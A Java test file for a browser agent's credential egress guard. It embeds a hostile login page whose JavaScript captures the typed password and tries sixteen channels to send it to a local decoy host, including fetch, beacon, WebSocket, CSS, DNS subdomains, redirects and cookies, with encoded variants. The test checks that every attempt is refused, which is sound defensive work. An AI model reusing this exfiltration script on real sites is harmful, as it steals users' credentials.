package dev.periscope.browser.playwright;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import dev.periscope.api.Cancellation;
import dev.periscope.api.PluginConfiguration;
import dev.periscope.api.browser.Transition;
import dev.periscope.api.host.CredentialService;
import dev.periscope.api.host.OriginPattern;
import dev.periscope.api.host.Secret;
import dev.periscope.api.tool.Tool;
import dev.periscope.api.tool.ToolCall;
import dev.periscope.api.tool.ToolResult;
import dev.periscope.browser.BrowserSettings;
import dev.periscope.browser.runtime.CredentialChannel;
import dev.periscope.browser.runtime.DefaultBrowserRuntime;
import dev.periscope.browser.tools.ToolsForTests;
import java.io.IOException;
import java.net.ConnectException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLDecoder;
import java.net.UnknownHostException;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The egress guard on real Chromium: a login page on the credential's own origin (127.0.0.1) reads
 * the filled credential and tries fourteen ways to send it to a decoy on a second admitted origin
 * (127.0.0.2, also reached as {@code *.decoy.test} through the test's resolver), one of them
 * through a redirect on a third (127.0.0.3), one through an open redirect of its own origin; two
 * more put it in a cookie of its own host and then ask, by fetch and by a WebSocket's handshake,
 * for nothing at another port of that host (another origin the browser sends the same cookies to; a
 * socket's route shows no cookies, so the guard reads them from the jar). Without a secret the same
 * page delivers a harmless value to the decoy on every channel, so the channels work; with the
 * credential filled the decoy gets no byte of it in any encoding, the agent sees page events naming
 * the decoy and the credential's reference, the journal records them, and the credential still
 * reaches its own origin when the form is submitted there.
 */
class ExfiltrationCanaryTest {
  static final String SECRET =
      "Cn4ry-" + UUID.randomUUID().toString().substring(0, 12) + " p@ss/w!rd+é";

  /** The page's ways out, each named by the path it asks for at the decoy. */
  static final List<String> CHANNELS =
      List.of(
          "/fetch",
          "/xhr",
          "/img",
          "/beacon",
          "/form",
          "/ws",
          "/es",
          "/frame",
          "/link",
          "/css",
          "/sub",
          "/redirected",
          "/worker",
          "/bounced",
          "/cookie",
          "/wscookie");

  static final String HOSTILE =
      """
      <!doctype html><html><head><title>Login</title></head><body>
      <form method="post" action="/session">
        <label for="user">Username</label><input id="user" name="user">
        <label for="pw">Password</label><input id="pw" name="pw" type="password">
        <button type="submit">Sign in</button>
      </form>
      <div id="css" style="width: 20px; height: 20px"></div>
      <iframe name="sink1" width="50" height="50"></iframe>
      <iframe name="sink2" id="sink2" width="50" height="50"></iframe>
      <iframe name="sink3" width="50" height="50"></iframe>
      <script>
      const D = 'http://127.0.0.2:DPORT', T = 'http://127.0.0.3:TPORT', N = 'http://127.0.0.1:NPORT';
      const b64 = s => btoa(unescape(encodeURIComponent(s)));
      const hex = s => Array.from(new TextEncoder().encode(s)).map(b => b.toString(16).padStart(2, '0')).join('');
      const rev = s => Array.from(s).reverse().join('');
      let fired = false, last = '', steady = 0;
      setInterval(() => {
        // Once the value has stayed the same for 200 ms: typing is over.
        const s = document.getElementById('pw').value || document.getElementById('user').value;
        steady = s === last ? steady + 1 : 0;
        last = s;
        if (s && steady >= 4 && !fired) { fired = true; steal(s); }
      }, 50);
      function attempt(f) { try { const p = f(); if (p && p.catch) p.catch(() => {}); } catch (e) {} }
      function steal(s) {
        const q = encodeURIComponent(s);
        attempt(() => fetch(D + '/fetch?p=' + q, {mode: 'no-cors'}));
        attempt(() => { const x = new XMLHttpRequest(); x.open('POST', D + '/xhr'); x.send(s); });
        attempt(() => { new Image().src = D + '/img?b=' + b64(s); });
        attempt(() => navigator.sendBeacon(D + '/beacon', hex(s)));
        attempt(() => {
          const f = document.createElement('form');
          f.method = 'post'; f.action = D + '/form'; f.target = 'sink1';
          const i = document.createElement('input'); i.name = 'pw'; i.value = s; f.appendChild(i);
          document.body.appendChild(f); f.submit();
        });
        attempt(() => { const w = new WebSocket('ws://127.0.0.2:DPORT/ws'); w.onopen = () => w.send(rev(s)); });
        attempt(() => new EventSource(D + '/es?t=' + b64(s).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '')));
        attempt(() => { document.getElementById('sink2').src = D + '/frame?h=' + hex(s).toUpperCase(); });
        attempt(() => {
          const a = document.createElement('a'); a.href = D + '/link?p=' + q; a.target = 'sink3';
          a.textContent = 'x'; document.body.appendChild(a); a.click();
        });
        attempt(() => {
          const st = document.createElement('style');
          st.textContent = '#css { background: url("' + D + '/css?p=' + b64(s) + '") }';
          document.head.appendChild(st);
        });
        const h = hex(s);
        attempt(() => fetch('http://' + h.slice(0, 20) + '.' + h.slice(20) + '.decoy.test:DPORT/sub', {mode: 'no-cors'}));
        attempt(() => fetch('/bounce?to=' + encodeURIComponent(D + '/bounced?p=' + q), {mode: 'no-cors'}));
        attempt(() => fetch(T + '/redirect?to=' + encodeURIComponent(D + '/redirected?p=' + q), {mode: 'no-cors'}));
        attempt(() => new Worker(URL.createObjectURL(new Blob(
          ["fetch('" + D + "/worker?p=" + q + "', {mode: 'no-cors'}).catch(() => {})"]))));
        // A cookie of this host goes to every port of it: the request itself carries nothing.
        document.cookie = 'c=' + hex(s) + '; path=/';
        setTimeout(() => attempt(() => fetch(N + '/cookie', {mode: 'no-cors', credentials: 'include'})), 100);
        setTimeout(() => attempt(() => new WebSocket('ws://127.0.0.1:NPORT/wscookie')), 100);
      }
      </script></body></html>""";

  static HttpServer site;
  static HttpServer third;
  static Sink decoy;

  /** A decoy on the credential's own host at another port: another origin, the same cookies. */
  static Sink neighbour;

  static final List<String> posted = new CopyOnWriteArrayList<>();
  static final List<byte[]> thirdReceived = new CopyOnWriteArrayList<>();

  /** Every name the policy proxy resolved: a name server would have seen them. */
  static final List<String> resolved = new CopyOnWriteArrayList<>();

  static DefaultBrowserRuntime runtime;
  static PlaywrightProvider provider;
  static List<Tool> tools;

  @BeforeAll
  static void start() throws Exception {
    decoy = new Sink(InetAddress.getByName("127.0.0.2"));
    neighbour = new Sink(InetAddress.getByName("127.0.0.1"));
    third = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.3"), 0), 0);
    third.createContext(
        "/redirect",
        exchange -> {
          thirdReceived.add(
              (exchange.getRequestURI().getRawQuery() + "\n" + exchange.getRequestHeaders())
                  .getBytes(StandardCharsets.UTF_8));
          String to =
              URLDecoder.decode(
                  exchange.getRequestURI().getRawQuery().substring(3), StandardCharsets.UTF_8);
          exchange.getResponseHeaders().set("Location", to);
          exchange.sendResponseHeaders(302, -1);
          exchange.close();
        });
    third.start();
    site = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    String page =
        HOSTILE
            .replace("DPORT", String.valueOf(decoy.port()))
            .replace("NPORT", String.valueOf(neighbour.port()))
            .replace("TPORT", String.valueOf(third.getAddress().getPort()));
    site.createContext("/login", exchange -> LocalBrowser.respond(exchange, page));
    // An open redirect of the credential's own origin: the secret goes to it, and on from it.
    site.createContext(
        "/bounce",
        exchange -> {
          String to =
              URLDecoder.decode(
                  exchange.getRequestURI().getRawQuery().substring(3), StandardCharsets.UTF_8);
          exchange.getResponseHeaders().set("Location", to);
          exchange.sendResponseHeaders(302, -1);
          exchange.close();
        });
    site.createContext(
        "/session",
        exchange -> {
          posted.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
          LocalBrowser.respond(
              exchange, "<html><head><title>Welcome</title></head>Signed in</html>");
        });
    site.setExecutor(java.util.concurrent.Executors.newCachedThreadPool());
    site.start();
    String own = "http://127.0.0.1:" + site.getAddress().getPort();
    CredentialService service =
        new CredentialService() {
          @Override
          public Set<String> references() {
            return Set.of("bank");
          }

          @Override
          public Optional<Secret> resolve(String reference) {
            return Optional.of(Secret.of(SECRET));
          }

          @Override
          public List<OriginPattern> origins(String reference) {
            return List.of(OriginPattern.parse(own));
          }
        };
    CredentialChannel channel =
        new CredentialChannel(
            Optional.of(service), Map.of(), name -> null, false, Optional.empty(), true);
    BrowserSettings settings =
        BrowserSettings.from(
            new PluginConfiguration(
                Map.of(
                    "persistence",
                    "ephemeral",
                    "network",
                    Map.of("mode", "allowlist", "allowCidrs", List.of("127.0.0.0/29")))));
    runtime = DefaultBrowserRuntime.builder(settings.runtime()).credentials(channel).build();
    // *.decoy.test is the decoy; every other name fails; no dial leaves loopback.
    provider =
        new PlaywrightProvider(
            settings.playwright(),
            Optional.empty(),
            host -> {
              resolved.add(host);
              if (host.equals("decoy.test") || host.endsWith(".decoy.test")) {
                return List.of(InetAddress.getByName("127.0.0.2"));
              }
              throw new UnknownHostException(host);
            },
            checked -> {
              if (!checked.getAddress().isLoopbackAddress()) {
                throw new ConnectException("the test dials loopback only");
              }
              return checked;
            });
    runtime.registerProvider(provider);
    tools = ToolsForTests.tools(runtime, settings, channel, Optional.empty());
  }

  @AfterAll
  static void stop() throws IOException {
    ToolsForTests.close();
    runtime.close();
    provider.dispose();
    site.stop(0);
    third.stop(0);
    decoy.close();
    neighbour.close();
  }

  /** The channels of both decoys whose requests carry {@code value}. */
  static Set<String> channelsCarrying(String value) {
    Set<String> reached = new TreeSet<>(decoy.channelsCarrying(value));
    reached.addAll(neighbour.channelsCarrying(value));
    return reached;
  }

  static ToolResult call(String agent, String tool, Map<String, Object> args) {
    return tools.stream()
        .filter(t -> t.descriptor().name().equals(tool))
        .findFirst()
        .orElseThrow()
        .call(new ToolCall(args, agent, Cancellation.none()));
  }

  static String login() {
    return "http://127.0.0.1:" + site.getAddress().getPort() + "/login";
  }

  @Test
  void withoutASecretTheSamePageReachesTheDecoyOnEveryChannel() throws Exception {
    String harmless = "control-" + UUID.randomUUID().toString().substring(0, 8);
    ToolResult page = call("control", "browser_open", Map.of("url", login()));
    Map<String, Object> args = new HashMap<>(LocalBrowser.target(page, "Username"));
    args.put("value", harmless);
    ToolResult typed = call("control", "browser_fill", args);
    assertFalse(typed.isError(), typed.text());
    Set<String> reached = Set.of();
    for (int i = 0; i < 60 && reached.size() < CHANNELS.size(); i++) {
      Thread.sleep(250);
      call("control", "browser_observe", Map.of());
      reached = channelsCarrying(harmless);
    }
    assertEquals(
        new TreeSet<>(CHANNELS),
        new TreeSet<>(reached),
        "every channel works; the decoys saw " + decoy.firstLines() + neighbour.firstLines());
  }

  @Test
  void aPasswordTheUserGaveReachesOnlyThePageItWasTypedInto() throws Exception {
    String typed = "Typed-" + UUID.randomUUID().toString().substring(0, 13) + "!pw";
    ToolResult page = call("typed", "browser_open", Map.of("url", login()));
    Map<String, Object> args = new HashMap<>(LocalBrowser.target(page, "Password"));
    args.put("value", typed);
    ToolResult filled = call("typed", "browser_fill", args);
    assertFalse(filled.isError(), filled.text());
    StringBuilder seen = new StringBuilder();
    for (int i = 0; i < 24; i++) {
      Thread.sleep(250);
      seen.append(call("typed", "browser_observe", Map.of()).text());
    }
    assertTrue(
        seen.toString()
            .contains(
                "a request to http://127.0.0.2:"
                    + decoy.port()
                    + " carrying the secret \"typed-password\" was refused"),
        seen.toString());
    assertEquals(Set.of(), channelsCarrying(typed), "the decoys got no byte of it");
    assertTrue(thirdReceived.stream().noneMatch(b -> Sink.carries(b, typed)));
    assertFalse(Sink.carries(seen.toString().getBytes(StandardCharsets.UTF_8), typed));
  }

  @Test
  void aFilledCredentialReachesOnlyItsOwnOrigin() throws Exception {
    ToolResult page = call("bank", "browser_open", Map.of("url", login()));
    Map<String, Object> args = new HashMap<>(LocalBrowser.target(page, "Password"));
    args.put("credential_ref", "bank");
    ToolResult filled = call("bank", "browser_fill_credential", args);
    assertFalse(filled.isError(), filled.text());
    StringBuilder seen = new StringBuilder(filled.text());
    for (int i = 0; i < 24; i++) {
      Thread.sleep(250);
      seen.append(call("bank", "browser_observe", Map.of()).text());
    }
    String events = seen.toString();
    int decoyPort = decoy.port();
    assertTrue(
        events.contains(
            "a request to http://127.0.0.2:"
                + decoyPort
                + " carrying the secret \"bank\" was refused"),
        events);
    assertTrue(
        events.contains("http://(a name that carries the secret).decoy.test:" + decoyPort), events);
    assertTrue(
        events.contains("a request to http://127.0.0.3:" + third.getAddress().getPort()), events);

    assertEquals(Set.of(), channelsCarrying(SECRET), "the decoys got no byte of it");
    assertTrue(
        events.contains("a request to http://127.0.0.1:" + neighbour.port()),
        "the cookie's request is refused: " + events);
    assertTrue(
        resolved.stream().noneMatch(n -> Sink.carries(n.getBytes(StandardCharsets.UTF_8), SECRET)),
        "no name carrying it was resolved: " + resolved);
    assertTrue(
        thirdReceived.stream().noneMatch(b -> Sink.carries(b, SECRET)),
        "the third got no byte of it");

    ToolResult signedIn =
        call(
            "bank",
            "browser_click",
            LocalBrowser.target(call("bank", "browser_observe", Map.of()), "Sign in"));
    assertTrue(signedIn.text().contains("Signed in"), signedIn.text());
    assertTrue(
        posted.stream()
            .anyMatch(p -> URLDecoder.decode(p, StandardCharsets.UTF_8).contains("pw=" + SECRET)),
        "its own origin still gets it");

    List<Transition> journal =
        runtime.transitions().stream()
            .filter(t -> "egress".equals(t.action().get("kind")))
            .filter(t -> t.sessionId().equals("browser-of-bank"))
            .toList();
    assertFalse(journal.isEmpty(), "the journal records the refusals");
    for (Transition t : journal) {
      assertTrue(String.valueOf(t.action().get("cause")).contains("\"bank\""), t.toString());
      assertFalse(Sink.carries(String.valueOf(t).getBytes(StandardCharsets.UTF_8), SECRET));
    }
    assertFalse(Sink.carries(events.getBytes(StandardCharsets.UTF_8), SECRET), "tool output");
  }
}
